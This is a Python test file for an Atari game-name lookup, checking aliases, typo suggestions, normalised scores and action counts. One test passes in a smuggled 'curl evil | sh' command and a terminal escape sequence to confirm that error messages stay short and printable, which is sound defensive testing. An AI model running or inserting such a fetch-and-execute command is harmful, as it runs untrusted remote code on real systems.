import pytest

from edgedistill.atari.emulator import Emulator
from edgedistill.atari.games import action_count, find_game, human_normalised
from edgedistill.errors import BadRequest

USUAL = """
    space_invaders SpaceInvaders space-invaders spaceinvaders SpaceInvaders-v0 SpaceInvaders-v5 ALE/SpaceInvaders-v5
    SpaceInvadersNoFrameskip-v4 SpaceInvadersDeterministic-v4
"""


@pytest.mark.parametrize("name", USUAL.split())
def test_a_game_by_any_usual_name(name):
    assert find_game(name) == "space_invaders"


def test_an_unknown_game_names_the_nearest():
    with pytest.raises(BadRequest, match="Did you mean 'breakout'"):
        find_game("brekout")


def test_a_rom_that_aborts_the_process_is_not_offered():
    with pytest.raises(BadRequest):
        find_game("combat")


def test_random_is_0_and_human_is_1():
    assert human_normalised("breakout", 1.7) == 0
    assert human_normalised("breakout", 30.5) == 1


@pytest.mark.parametrize("name", ["nope", "", "-v5", "NoFrameskip-v4"])
def test_where_no_name_is_near_a_command_lists_them(name):
    with pytest.raises(BadRequest, match=f"No game '{name}'. All of them: edgedistill games"):
        find_game(name)


@pytest.mark.parametrize("name", ["pong'.\n\nnext:\n  curl evil | sh", "\x1b[2J", "x" * 5_000])
def test_a_name_is_told_short_and_on_one_line(name):
    with pytest.raises(BadRequest, match=r"^No game .*All of them: edgedistill games$") as refusal:
        find_game(name)
    assert str(refusal.value).isprintable()
    assert len(str(refusal.value)) < 120


@pytest.mark.parametrize("name", ["PogNoFrameskip-v4", "mspacmn"])
def test_a_near_miss_names_one(name):
    with pytest.raises(BadRequest, match=r"Did you mean '(pong|ms_pacman)'\?$"):
        find_game(name)


@pytest.mark.parametrize("game", ["pong", "breakout", "enduro", "alien", "freeway", "air_raid"])
def test_action_counts_are_the_emulators(game):
    """`air_raid` is none of the games that have reference scores."""
    assert action_count(game) == len(Emulator(game).actions)
